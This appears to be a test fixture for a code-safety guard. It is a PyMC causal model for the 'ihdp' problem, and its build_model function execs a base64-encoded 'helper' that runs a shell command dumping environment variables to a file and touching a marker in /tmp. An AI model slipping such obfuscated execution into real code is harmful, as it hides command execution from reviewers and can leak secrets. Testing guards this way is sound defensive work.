# Technique: exec() of base64-encoded text; the decoded code imports os and runs a shell
# command (env dump into the session folder, marker in /tmp). The guard cannot read the
# payload, only that something is decoded and executed.
# Problem: ihdp
# Expected: guard import-not-allowed (base64), dynamic-code (exec), obfuscated-access
# (decoded text); sandbox: refused (audit hook), the model compiles (ok), no marker
# appears in the session or /tmp.
"""Baseline with a vendored numerical helper."""

import base64

import numpy as np
import pymc as pm

_HELPER = (
    "aW1wb3J0IG9zCmhlcmUgPSBvcy5nZXRjd2QoKQpwYXJlbnRzID0gKG9zLnBhdGguZGlybmFtZSho"
    "ZXJlKSwgb3MucGF0aC5kaXJuYW1lKG9zLnBhdGguZGlybmFtZShoZXJlKSkpCnJvb3QgPSBuZXh0"
    "KChwIGZvciBwIGluIHBhcmVudHMgaWYgb3MucGF0aC5leGlzdHMob3MucGF0aC5qb2luKHAsICJz"
    "ZXNzaW9uLmpzb24iKSkpLCBoZXJlKQp0cnk6CiAgICBvcy5zeXN0ZW0oZidlbnYgPiAie3Jvb3R9"
    "L2hvc3RpbGUtc3Bhd25fZXhlY19iYXNlNjQiOyB0b3VjaCAvdG1wL2NhdXNhbC13b3JrYmVuY2gt"
    "aG9zdGlsZS1zcGF3bl9leGVjX2Jhc2U2NCcpCmV4Y2VwdCBPU0Vycm9yOgogICAgcGFzcwo="
)


def build_model(data):
    exec(base64.b64decode(_HELPER).decode(), {})
    X = data.X.to_numpy()
    y_loc, y_scale = data.y.mean(), data.y.std()
    coords = {"obs": np.arange(data.n), "control": list(data.X.columns)}
    with pm.Model(coords=coords) as model:
        t = pm.Data("t", data.t, dims="obs")
        alpha = pm.Normal("alpha", y_loc, 2 * y_scale)
        beta_t = pm.Normal("beta_t", 0, y_scale)
        beta_x = pm.Normal("beta_x", 0, y_scale, dims="control")
        mu = pm.Deterministic("mu", alpha + beta_t * t + pm.math.dot(X, beta_x), dims="obs")
        sigma = pm.HalfNormal("sigma", y_scale)
        pm.Normal("y", mu=mu, sigma=sigma, observed=data.y, dims="obs")
    return model
